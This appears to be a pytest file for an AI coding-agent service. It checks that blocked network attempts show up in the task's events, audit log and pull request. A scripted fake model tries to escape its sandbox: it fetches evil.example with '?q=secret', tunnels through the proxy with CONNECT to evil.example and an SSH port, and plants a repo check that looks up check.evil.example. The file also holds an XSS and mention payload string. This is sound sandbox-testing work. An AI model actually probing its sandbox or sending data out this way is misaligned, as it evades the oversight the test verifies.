"""What a task tried to reach is told on the task, in its audit log and in its pull request: everything real but the model."""

from pathlib import Path
from typing import Any

import pytest

from contracts.audit import AuditEntry
from services.scripted_model.script import ModelRequest, Turn
from tests.fakes.stack import Service, WritesFiles, remote, running

pytestmark = pytest.mark.slow
LOOK = "python3 -c \"import socket\ntry: socket.getaddrinfo('{}', 443)\nexcept OSError: pass\""
CHECKS = "checks:\n  - name: tests\n    command: |\n      " + LOOK.format("check.evil.example").replace("\n", "\n      ") + "\n"
FILES: dict[str, str | bytes] = {"a.py": "A = 1\n", "tests/test_a.py": "import unittest\n", ".patchwright.yaml": CHECKS}
HOSTILE = "<img/src=x/onerror=alert(1)>`**[a](javascript:b)@everyone\u202e"
ASK = """python3 - <<'END'
import os, socket
for place in ("evil.example:443", "evil.example:443", "good.example:22", {hostile!r}):
    s = socket.create_connection(("127.0.0.1", int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])))
    s.sendall(("CONNECT " + place + " HTTP/1.1\\r\\n\\r\\n").encode())
    print(s.recv(99))
END"""


class Reaches(WritesFiles):
    """A model that tries to get out by every tool it has."""

    def planner(self, request: ModelRequest, wanted: list[tuple[str, str]]) -> list[Turn]:
        pages = [Turn.call("read_documentation", url=url)
                 for url in ("https://docs.example.com/guide", "https://evil.example/?q=secret", "https://[::1]/")]
        return [*pages, *super().planner(request, wanted)]

    def coder(self, request: ModelRequest, wanted: list[tuple[str, str]]) -> list[Turn]:
        return [Turn.call("run_command", command=ASK.format(hostile=HOSTILE)), *super().coder(request, wanted)]


async def audit_of(service: Service, task: str) -> list[AuditEntry]:
    told = (await service.http.get(f"/tasks/{task}/audit")).json()
    assert told["whole"], told["problem"]
    return [AuditEntry.model_validate(entry) for entry in told["entries"]]


async def test_what_was_tried_in_vain_is_told_everywhere(tmp_path: Path) -> None:
    more: dict[str, Any] = {"documentation_hosts": ["docs.example.com"],
                            "default_policy": {"network": {"allowed_hosts": ["good.example"]}}}
    async with running(tmp_path / "data", Reaches(), **more) as service:
        task = await service.submit(remote(tmp_path, FILES), description="write tests/test_b.py: import unittest")
        shown = await service.until(task, "awaiting_review")
        blocked = [event for event in await service.events(task) if event["kind"] == "blocked"]
        entries = [entry for entry in await audit_of(service, task) if '"deed":"host"' in entry.deed and not entry.allowed]
        page = (await service.http.get(f"/t/{task}")).text
        pull = (await service.http.get(f"/prs/{shown['pull_request']['id']}", headers={"accept": "application/json"})).json()
    told = {(event["data"]["during"], event["data"]["place"]): event["data"] for event in blocked}
    assert told["read_documentation", "docs.example.com:443"]["rule"] == "network.allowed_hosts"
    assert told["read_documentation", "evil.example:443"]["rule"] == "documentation_hosts"
    assert told["run_command", "evil.example:443"]["count"] == 2
    assert told["run_command", "good.example:22"]["rule"] == "code.host_ports"
    assert told["check tests", "check.evil.example"]["count"] >= 1
    hostile = next(place for during, place in told if during == "run_command" and "onerror" in place)
    assert hostile.isascii() and hostile.isprintable()
    assert {"code.host_ports", "network.allowed_hosts", "documentation_hosts"} <= {entry.rule for entry in entries}
    assert any('"host":"evil.example"' in entry.deed and '"port":443' in entry.deed for entry in entries)
    assert "Blocked attempts" in pull["description"] and "`evil.example:443` (3 times)" in pull["description"]
    assert "Blocked attempts" in page and "check.evil.example" in page
    assert "<img/src" not in page and HOSTILE not in pull["description"]


class Notes(WritesFiles):
    """A model that remembers which tools it was offered."""

    def __init__(self) -> None:
        self.offered: set[str] = set()

    def answer(self, request: ModelRequest) -> Turn:
        self.offered |= set(request.tools)
        return super().answer(request)


async def test_a_task_that_tried_nothing_tells_nothing(tmp_path: Path) -> None:
    model = Notes()
    async with running(tmp_path / "data", model) as service:
        task = await service.submit(remote(tmp_path, {"a.py": "A = 1\n"}), description="write tests/test_b.py: import unittest")
        shown = await service.until(task, "awaiting_review")
        pull = (await service.http.get(f"/prs/{shown['pull_request']['id']}", headers={"accept": "application/json"})).json()
        page = (await service.http.get(f"/t/{task}")).text
        assert not [event for event in await service.events(task) if event["kind"] == "blocked"]
    assert "Blocked attempts" not in pull["description"] and "Blocked attempts" not in page
    assert "run_command" in model.offered and "read_documentation" not in model.offered
